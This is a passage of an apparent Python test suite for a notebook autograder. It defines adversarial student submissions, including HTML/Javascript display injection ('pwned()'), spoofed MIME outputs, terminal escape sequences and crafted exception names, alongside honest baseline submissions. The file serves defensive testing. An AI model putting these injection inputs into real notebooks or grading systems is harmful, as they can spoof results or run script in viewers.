from IPython.display import HTML, Javascript, Latex, Markdown, display
evil, links = {EVIL!r}, {LINKS!r}
display(HTML(evil), HTML(links), Markdown(evil + links), Javascript("pwned()"), Latex(links))
for kind in ["image/svg+xml", "application/javascript", "text/latex", "image/png", "text/plain",
             "application/vnd.jupyter.widget-view+json", "application/pdf", "text/evil"]:
    display({{kind: evil}}, raw=True, metadata={{kind: {{"isolated": True, "width": evil}}}})
print("tried", evil)
"""),
    barred("display-errors", f"""
print("tried", "\\ud800 \\x1b]0;pwned\\x07 \\x00")
sys.stderr.write({EVIL!r})
raise type({EVIL[:24]!r}, (Exception,), {{}})({EVIL!r})
"""),
    barred("display-text", edit=with_evil_text),
    barred("display-history", after="print(*In, sep='\\n')"),
    Attack("display-tracebacks", WORTHLESS, "def double(x):\n    return 2 * x / (x in (2, 3))"),
]  # fmt: skip

HONEST = [
    Attack("honest-plain", BARRED, RIGHT),
    Attack("honest-noisy", BARRED, """
import logging, os, sys, threading, time, warnings
def chat():
    for number in range(40):
        print("from a thread", number)
        sys.stderr.write("and a warning")
        time.sleep(0.05)
def double(x):
    warnings.warn("this is only a warning")
    logging.error("and this is logged")
    print("doubling", x, file=sys.stderr)
    os.write(2, b"what a C library writes")
    return 2 * x
threading.Thread(target=chat).start()
"""),
    Attack("honest-slow", BARRED, """
import time
def double(x):
    time.sleep(0.4)
    return x + x
""", after="import time; time.sleep(1)"),
    Attack("honest-plots", BARRED, RIGHT, after="""
import matplotlib.pyplot as plt, numpy as np
from IPython.display import HTML, clear_output, display
print("gone")
clear_output()
plt.plot(double(np.arange(9)))
plt.show()
display(HTML("<b>bold</b>"))
"""),
    Attack("honest-mistakes", BARRED, RIGHT, before="1 / 0", after="""
assert double(2) == 5, "I still have to understand this"
"""),
    Attack("honest-classes", BARRED, """
class Number:
    def __init__(self, value): self.value = value
    def __eq__(self, other): return isinstance(other, Number) and self.value == other.value
    def __add__(self, other): return Number(self.value + other.value)
def double(x):
    total = Number(x) + Number(x)
    return total.value
"""),
    Attack("honest-helpers", BARRED, """
import functools, sys
sys.setrecursionlimit(5000)
np = None
number = 7
@functools.lru_cache
def cached(x): return x * 2
def double(x):
    try:
        return cached(x)
    except TypeError:  # arrays have no hash
        return x * 2
"""),
]  # fmt: skip
ATTACKS = {a.student: a for a in [*COMPUTER, *RESOURCES, *SCORES, *NOTEBOOKS, *PAGES]}
HONEST = {student.student: student for student in HONEST}
